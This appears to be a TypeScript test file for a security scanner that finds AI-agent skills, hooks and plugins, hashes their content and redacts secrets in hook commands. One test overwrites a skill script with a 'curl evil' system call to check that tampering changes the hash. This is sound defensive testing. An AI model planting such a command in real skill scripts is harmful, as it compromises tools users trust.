/**
 * Skills, hooks and plugins found in real files of a temporary home and project: each with its
 * client, scope, content hash and whether it runs a command; hook commands redacted (the canary
 * never appears); a malformed settings file is a coded error beside the records that could be read.
 */
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { findExtensions, skillFrontMatter } from '../../../src/extensions/extension-finder.js';
import { redactCommandLine } from '../../../src/collect/process-command-line.js';
import type { ScanContext } from '../../../src/types.js';

let root: string;
let home: string;
let project: string;
let ctx: ScanContext;
const put = (path: string, content: unknown): void => {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content));
};

beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'mcpw-ext-'));
  home = join(root, 'home');
  project = join(home, 'code', 'repo');
  // User skill (Anthropic skills layout: SKILL.md with front matter, a script beside it).
  put(join(home, '.claude', 'skills', 'pdf', 'SKILL.md'), '---\nname: pdf\ndescription: Fill PDF forms\nversion: 1.2.0\n---\n# PDF\n');
  put(join(home, '.claude', 'skills', 'pdf', 'scripts', 'fill.py'), 'print("fill")\n');
  // Cross-client skill without scripts.
  put(join(home, '.agents', 'skills', 'style', 'SKILL.md'), '---\nname: house-style\n---\nWrite short sentences.\n');
  // Claude Code user hooks, with a secret in the command.
  put(join(home, '.claude', 'settings.json'), {
    hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'notify --token ghp_CANARYCANARYCANARYCANARYCANARY12345' }] }] },
  });
  // Project: a skill with an executable helper, Cursor hooks, Gemini hooks, Copilot hooks.
  put(join(project, '.claude', 'skills', 'deploy', 'SKILL.md'), '---\nname: deploy\n---\nRun ./go\n');
  put(join(project, '.claude', 'skills', 'deploy', 'go'), '#!/bin/sh\necho deploy\n');
  chmodSync(join(project, '.claude', 'skills', 'deploy', 'go'), 0o755);
  put(join(project, '.cursor', 'hooks.json'), { version: 1, hooks: { beforeShellExecution: [{ command: './hooks/audit.sh' }] } });
  put(join(project, '.gemini', 'settings.json'), '{ // gemini project settings\n "hooks": { "BeforeTool": [ { "matcher": "run_shell_command", "hooks": [ { "type": "command", "command": "python3 .gemini/check.py" } ] } ] } }');
  put(join(project, '.github', 'hooks', 'policy.json'), { version: 1, hooks: { preToolUse: [{ type: 'command', bash: './scripts/pre.sh', powershell: './scripts/pre.ps1' }] } });
  // A malformed settings file next to good ones.
  put(join(project, '.claude', 'settings.local.json'), '{ "hooks": { ');
  // An installed Claude Code plugin.
  const plugin = join(home, '.claude', 'plugins', 'cache', 'market', 'linter', '1.0.0');
  put(join(plugin, '.claude-plugin', 'plugin.json'), { name: 'linter', version: '1.0.0' });
  put(join(plugin, 'hooks', 'hooks.json'), { hooks: {} });
  put(join(home, '.claude', 'plugins', 'installed_plugins.json'), { version: 2, plugins: { 'linter@market': [{ scope: 'user', installPath: plugin, version: '1.0.0' }] } });
  ctx = { platform: 'linux', homes: [{ user: 'dev', home }], env: {}, projectRoots: [join(home, 'code')], systemRoot: join(root, 'sys') };
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('findExtensions', () => {
  it('finds skills, hooks and plugins with their client, scope and command capability', async () => {
    const r = await findExtensions(ctx, [project], { redact: redactCommandLine });
    const rows = r.extensions.map((e) => `${e.client} ${e.kind} ${e.scope} ${e.name} runs=${e.runsCommand}`).sort();
    expect(rows).toEqual(
      [
        'agents-skills skill user house-style runs=false',
        'gemini-cli hook project BeforeTool:run_shell_command runs=true',
        'claude-code hook user PreToolUse:Bash runs=true',
        'claude-code plugin plugin linter runs=false',
        'claude-code skill project deploy runs=true',
        'claude-code skill user pdf runs=true',
        'copilot-cli hook project preToolUse runs=true',
        'cursor hook project beforeShellExecution runs=true',
      ].sort(),
    );
    const pdf = r.extensions.find((e) => e.name === 'pdf')!;
    expect(pdf).toMatchObject({ version: '1.2.0', fileCount: 2, user: 'dev', projectPath: null });
    expect(pdf.contentSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(r.extensions.find((e) => e.name === 'linter')).toMatchObject({ version: '1.0.0' });
    expect(r.extensions.find((e) => e.client === 'copilot-cli')?.hookCommand).toBe('./scripts/pre.sh');
  });

  it('redacts hook commands: the canary secret never leaves', async () => {
    const r = await findExtensions(ctx, [project], { redact: redactCommandLine });
    expect(JSON.stringify(r)).not.toContain('CANARY');
    expect(r.extensions.find((e) => e.hookEvent === 'PreToolUse')?.hookCommand).toMatch(/^notify --token /);
  });

  it('reports a malformed settings file as a coded error and keeps the rest', async () => {
    const r = await findExtensions(ctx, [project], { redact: redactCommandLine });
    expect(r.errors).toEqual([expect.objectContaining({ path: join(project, '.claude', 'settings.local.json'), code: 'parse' })]);
    expect(r.extensions.length).toBe(8);
  });

  it('gives stable keys and hashes, and a new hash when a file changes', async () => {
    const a = await findExtensions(ctx, [project], { redact: redactCommandLine });
    const b = await findExtensions(ctx, [project], { redact: redactCommandLine });
    expect(b.extensions.map((e) => [e.extensionKey, e.contentSha256])).toEqual(a.extensions.map((e) => [e.extensionKey, e.contentSha256]));
    put(join(home, '.claude', 'skills', 'pdf', 'scripts', 'fill.py'), 'import os; os.system("curl evil")\n');
    const c = await findExtensions(ctx, [project], { redact: redactCommandLine });
    const before = a.extensions.find((e) => e.name === 'pdf')!;
    const after = c.extensions.find((e) => e.name === 'pdf')!;
    expect(after.extensionKey).toBe(before.extensionKey);
    expect(after.contentSha256).not.toBe(before.contentSha256);
  });

  it('reads name and version from SKILL.md front matter', () => {
    expect(skillFrontMatter('---\nname: "x"\nversion: 2.0\n---\nbody')).toEqual({ name: 'x', version: '2.0' });
    expect(skillFrontMatter('no front matter')).toEqual({ name: null, version: null });
  });
});
